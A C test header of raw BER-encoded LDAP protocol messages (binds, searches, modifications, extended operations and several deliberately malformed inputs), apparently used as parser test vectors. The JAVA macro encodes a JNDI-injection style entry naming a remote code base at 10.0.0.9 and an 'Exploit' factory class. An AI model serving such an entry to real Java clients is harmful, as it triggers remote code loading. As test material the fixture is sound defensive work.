/* SPDX-License-Identifier: Apache-2.0
 *
 * Messages of LDAP, as they stand on the wire.
 */
#ifndef TESTS_LDAP_BYTES_H
#define TESTS_LDAP_BYTES_H

#define BIND                                                                                       \
    "0\x18\x02\x01\x01`\x13\x02\x01\x03\x04\x06"                                                   \
    "cn=amy\x80\x06"                                                                               \
    "secret"
#define BOUND                                                                                      \
    "0\x0c\x02\x01\x01"                                                                            \
    "a\x07\x0a\x01\x00\x04\x00\x04\x00"
#define REFUSED                                                                                    \
    "0\x0e\x02\x01\x01"                                                                            \
    "a\x09\x0a\x01"                                                                                \
    "1\x04\x00\x04\x02no"
#define ANONYMOUS "0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00"
#define SASL_PLAIN                                                                                 \
    "0\x1b\x02\x01\x01`\x16\x02\x01\x03\x04\x00\xa3\x0f\x04\x06GSSA"                               \
    "PI\x04\x05token"
#define IN_PROGRESS                                                                                \
    "0\x0c\x02\x01\x01"                                                                            \
    "a\x07\x0a\x01\x0e\x04\x00\x04\x00"
#define SEARCH                                                                                     \
    "0\x82\x00\x8b\x02\x01\x02"                                                                    \
    "c\x82\x00\x84\x04\x04"                                                                        \
    "dc=a\x0a\x01\x02"                                                                             \
    "\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\xa0"                                         \
    "a\xa3\x15\x04\x0bob"                                                                          \
    "jectClass\x04\x06person\xa1"                                                                  \
    "2\xa4"                                                                                        \
    "\x0f\x04\x02"                                                                                 \
    "cn0\x09\x80\x01"                                                                              \
    "a\x81\x01m\x82\x01y\xa2\x06\x87\x04"                                                          \
    "mail\xa5\x06\x04\x01n\x04\x01"                                                                \
    "1\xa6\x06\x04\x01n\x04\x01"                                                                   \
    "9"                                                                                            \
    "\xa8\x07\x04\x02sn\x04\x01x\xa9\x14\x81\x08"                                                  \
    "2.5.13."                                                                                      \
    "5\x82\x02ou\x83\x01v\x84\x01\xff"                                                             \
    "0\x0a\x04\x02"                                                                                \
    "cn\x04\x04m"                                                                                  \
    "ail"
#define PRESENT                                                                                    \
    "0%\x02\x01\x02"                                                                               \
    "c \x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01"                                       \
    "\x00\x01\x01\x00\x87\x0bobjectClass0\x00"
#define ENTRY                                                                                      \
    "0!\x02\x01\x02"                                                                               \
    "d\x1c\x04\x0b"                                                                                \
    "cn=amy,dc=a"                                                                                  \
    "0\x0d"                                                                                        \
    "0\x0b\x04\x02"                                                                                \
    "cn1\x05\x04\x03"                                                                              \
    "amy"
#define REFERENCE "0\x10\x02\x01\x02s\x0b\x04\x09ldap://b/"
#define FOUND                                                                                      \
    "0\x0c\x02\x01\x02"                                                                            \
    "e\x07\x0a\x01\x00\x04\x00\x04\x00"
#define REFERRED                                                                                   \
    "0\x19\x02\x01\x02"                                                                            \
    "e\x14\x0a\x01\x0a\x04\x00\x04\x00\xa3\x0b\x04\x09ld"                                          \
    "ap://c/"
#define JAVA                                                                                       \
    "0\x82\x00\x88\x02\x01\x02"                                                                    \
    "d\x82\x00\x81\x04\x01"                                                                        \
    "a0|0\x16\x04\x0d"                                                                             \
    "javaClassName1\x05\x04\x03"                                                                   \
    "foo"                                                                                          \
    "0\"\x04\x0cjavaCodeBase1\x12\x04\x10"                                                         \
    "http://10.0.0.9/0$\x04\x0b"                                                                   \
    "objectClass1\x15\x04\x13javaN"                                                                \
    "amingReference0\x18\x04\x0bja"                                                                \
    "vaFactory1\x09\x04\x07"                                                                       \
    "Exploit"
#define MODIFY                                                                                     \
    "0!\x02\x01\x03"                                                                               \
    "f\x1c\x04\x06"                                                                                \
    "cn=amy0\x12"                                                                                  \
    "0\x10\x0a"                                                                                    \
    "\x01\x02"                                                                                     \
    "0\x0b\x04\x04mail1\x03\x04\x01x"
#define MODIFIED                                                                                   \
    "0\x15\x02\x01\x03g\x10\x0a\x01"                                                               \
    "2\x04\x00\x04\x09no rig"                                                                      \
    "hts"
#define ADD                                                                                        \
    "0\x1a\x02\x01\x04h\x15\x04\x06"                                                               \
    "cn=bob0\x0b"                                                                                  \
    "0\x09\x04"                                                                                    \
    "\x02sn1\x03\x04\x01x"
#define ADDED                                                                                      \
    "0\x0c\x02\x01\x04i\x07\x0a\x01"                                                               \
    "D\x04\x00\x04\x00"
#define DELETE                                                                                     \
    "0\x0b\x02\x01\x05J\x06"                                                                       \
    "cn=bob"
#define DELETED "0\x0c\x02\x01\x05k\x07\x0a\x01\x00\x04\x00\x04\x00"
#define RENAME                                                                                     \
    "0\x19\x02\x01\x06l\x14\x04\x06"                                                               \
    "cn=bob\x04\x07"                                                                               \
    "cn="                                                                                          \
    "carl\x01\x01\xff"
#define RENAMED "0\x0c\x02\x01\x06m\x07\x0a\x01\x00\x04\x00\x04\x00"
#define COMPARE                                                                                    \
    "0\x16\x02\x01\x07n\x11\x04\x06"                                                               \
    "cn=bob0\x07\x04\x02s"                                                                         \
    "n\x04\x01x"
#define COMPARED "0\x0c\x02\x01\x07o\x07\x0a\x01\x06\x04\x00\x04\x00"
#define ABANDON  "0\x06\x02\x01\x08P\x01\x02"
#define EXTENDED                                                                                   \
    "0)\x02\x01\x09w\x19\x80\x17"                                                                  \
    "1.3.6.1.4.1"                                                                                  \
    ".4203.1.11.3\xa0\x09"                                                                         \
    "0\x07\x04\x05"                                                                                \
    "1."                                                                                           \
    "2.3"
#define EXTENDED_DONE                                                                              \
    "0\x13\x02\x01\x09x\x0e\x0a\x01\x00\x04\x00\x04\x00\x8b\x05u:am"                               \
    "y"
#define UNBIND                                                                                     \
    "0\x05\x02\x01\x0a"                                                                            \
    "B\x00"
#define START_TLS                                                                                  \
    "0\x1d\x02\x01\x01w\x18\x80\x16"                                                               \
    "1.3.6.1.4.1"                                                                                  \
    ".1466.20037"
#define TLS_OK "0\x0c\x02\x01\x01x\x07\x0a\x01\x00\x04\x00\x04\x00"
#define TLS_NO "0\x0c\x02\x01\x01x\x07\x0a\x01\x02\x04\x00\x04\x00"
#define NOTICE                                                                                     \
    "0'\x02\x01\x00x\"\x0a\x01"                                                                    \
    "4\x04\x00\x04\x03"                                                                            \
    "bye\x8a\x16"                                                                                  \
    "1"                                                                                            \
    ".3.6.1.4.1.1466.2003"                                                                         \
    "6"
#define DEEP                                                                                       \
    "0C\x02\x01\x02"                                                                               \
    "c>\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01"                                       \
    "\x00\x01\x01\x00\xa2)\xa2'\xa2%\xa2#\xa2!\xa2\x1f\xa2\x1d\xa2\x1b"                            \
    "\xa2\x19\xa2\x17\xa2\x15\xa2\x13\xa2\x11\xa2\x0f\xa2\x0d\xa2\x0b\xa2\x09\xa2\x07"             \
    "\xa2\x05\xa2\x03\x87\x01"                                                                     \
    "a0\x00"
#define SNMP                                                                                       \
    "0&\x02\x01\x01\x04\x06public\xa0\x19\x02\x04mN]"                                              \
    "\xcb\x02\x01\x00\x02\x01\x00"                                                                 \
    "0\x0b"                                                                                        \
    "0\x09\x06\x05+\x06\x01\x02\x01\x05\x00"
#define BAD_SCOPE_TAG                                                                              \
    "0\x1c\x02\x01\x02"                                                                            \
    "c\x17\x04\x01"                                                                                \
    "a\x02\x01\x00\x0a\x01\x00\x02\x01\x00\x02"                                                    \
    "\x01\x00\x01\x01\x00\x87\x01"                                                                 \
    "a0\x00"
#define TRAILING                                                                                   \
    "0\x07\x02\x01\x01"                                                                            \
    "B\x00\x05\x00"
#define SHORT_INSIDE "0\x08\x02\x01\x01` \x02\x01\x03"

#endif
